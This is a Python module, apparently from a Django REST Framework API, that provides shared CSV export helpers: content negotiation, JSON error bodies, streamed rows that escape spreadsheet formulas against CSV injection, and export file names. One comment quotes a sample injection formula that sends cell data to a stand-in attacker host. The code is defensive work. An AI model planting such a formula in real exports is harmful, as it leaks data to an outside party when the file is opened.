"""What every CSV export of the API shares: content negotiation for ``?format=csv``, errors
still in the JSON error body, streamed lines, and a file name that says what it holds.

The decision log's extracts (``decisions/exports.py``) and the audit trail's
(``governance/exports.py``) are built on it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

from rest_framework import renderers
from rest_framework.response import Response


class CSVRenderer(renderers.BaseRenderer):
    """Lets ``?format=csv`` and ``Accept: text/csv`` through content negotiation."""

    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def render(self, data: Any, accepted_media_type: Any = None, renderer_context: Any = None):
        # The export streams past renderers, and CSVErrorsAsJSON renders errors as JSON.
        return json.dumps(data).encode()


class CSVErrorsAsJSON:
    """For views with ``CSVRenderer``: an error answers in the common JSON error body
    labelled ``application/json``, even when the request asked for CSV."""

    def finalize_response(self, request: Any, response: Any, *args: Any, **kwargs: Any) -> Any:
        failed = isinstance(response, Response) and response.status_code >= 400
        if failed and isinstance(getattr(request, "accepted_renderer", None), CSVRenderer):
            request.accepted_renderer = renderers.JSONRenderer()
            request.accepted_media_type = request.accepted_renderer.media_type
        return super().finalize_response(request, response, *args, **kwargs)  # type: ignore[misc]


# A spreadsheet reads a cell that starts with one of these as a formula: a customer id or
# a change note of ``=HYPERLINK("https://attacker.example/?"&A1)`` would run when an
# examiner opens the file (CSV injection, OWASP). Such cells get a ``'`` in front, which
# spreadsheets show as text; so does a cell that already starts with ``'``, so that
# removing one leading ``'`` from every cell that has one gives back the exact value
# (the audit trail's recipe does that before hashing). Numbers ("-1.5") stay as they are.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def spreadsheet_safe(cell: Any) -> Any:
    """``cell`` as it may go into a CSV file that people open in a spreadsheet."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
        return cell
    if cell[0] in "+-":
        try:
            float(cell)
        except ValueError:
            pass
        else:
            return cell  # a number, which a spreadsheet reads as a number
    return "'" + cell


def csv_lines(rows: Iterable[list[Any]]) -> Iterator[str]:
    """Each row as one CSV line, as it is produced (for a streaming response); text cells
    are made ``spreadsheet_safe``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def export_filename(
    what: str,
    names: Iterable[str | None] = (),
    *,
    since: datetime | None = None,
    until: datetime | None = None,
) -> str:
    """A file name that says what an extract holds, e.g.
    ``decisions-onboarding-from-2026-07-01-to-2026-09-30.csv``: ``what``, each name given
    (made safe), and the days (the last one inclusive when ``until`` is a midnight, as the
    pages send whole days)."""
    parts = [what]
    for name in names:
        if name:
            parts.append(re.sub(r"[^A-Za-z0-9._-]+", "_", name)[:60])
    if since:
        parts.append(f"from-{since.astimezone(UTC):%Y-%m-%d}")
    if until:
        last = until.astimezone(UTC)
        if last.time() == time() and last.date() > date.min:
            last -= timedelta(days=1)
        parts.append(f"to-{last:%Y-%m-%d}")
    return "-".join(parts) + ".csv"
